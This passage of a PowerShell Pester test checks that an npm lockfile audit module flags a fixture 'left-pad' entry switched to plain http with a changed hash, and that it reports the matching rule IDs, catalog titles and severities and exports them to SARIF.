                    'node_modules/left-pad' = @{ version = '1.3.0'; resolved = $Resolved; integrity = $Integrity } } } | ConvertTo-Json -Depth 5
        }
        $sha = 'sha512-' + ('A' * 86) + '=='
        Set-Content -LiteralPath (Join-Path $LockDir 'old/package-lock.json') -Value (Lock 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz' $sha)
        # the same entry now over plain http with another hash: one lockfile fact for Test-NpmLockfile (http), two
        # changes for Compare-NpmLockfile (source kind, tarball swap)
        Set-Content -LiteralPath (Join-Path $LockDir 'package-lock.json') -Value (Lock 'http://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz' ('sha512-' + ('B' * 86) + '=='))
    }
    AfterAll { Remove-Item -LiteralPath $LockDir -Recurse -Force -ErrorAction SilentlyContinue }

    It 'keeps NPMH15050-15099 to Compare-NpmLockfile -Audit and the rest of NPMH15xxx to Test-NpmLockfile, each with its catalog title and severity' {
        $compare = @(Compare-NpmLockfile -ReferencePath (Join-Path $LockDir 'old/package-lock.json') -DifferencePath (Join-Path $LockDir 'package-lock.json') -Audit)
        $test = @(Test-NpmLockfile -Path (Join-Path $LockDir 'package-lock.json') | Where-Object Status -ne 'Pass')
        @($compare.RuleId | Sort-Object) | Should -Be @('NPMH15050', 'NPMH15052')
        @($test | Where-Object { [int]$_.RuleId.Substring(4) -ge 15050 }).Count | Should -Be 0 -Because 'only the comparison judges changes'
        $test.RuleId | Should -Contain 'NPMH15002' -Because 'the lockfile audit still sees the plain-http entry'
        $catalog = @{}
        foreach ($r in Get-NpmRule -RuleId 'NPMH1505*') { $catalog[$r.RuleId] = $r; $r.Audit | Should -Be 'Compare-NpmLockfile' }
        foreach ($f in $compare) {
            $f.Title | Should -Be $catalog[$f.RuleId].Title
            "$($f.Severity)" | Should -Be "$($catalog[$f.RuleId].Severity)"
            $f.ComputerName | Should -Be ([Environment]::MachineName)
        }
        @($compare.FactId | Select-Object -Unique).Count | Should -Be $compare.Count
        @($compare | Where-Object { @($test.FactId) -contains $_.FactId }).Count | Should -Be 0
        $sarif = Join-Path $LockDir 'lock.sarif'
        $compare | Export-NpmHardeningReport -Format Sarif -Path $sarif
        (Get-Content -LiteralPath $sarif -Raw) | Should -Match 'NPMH15050'
    }
}
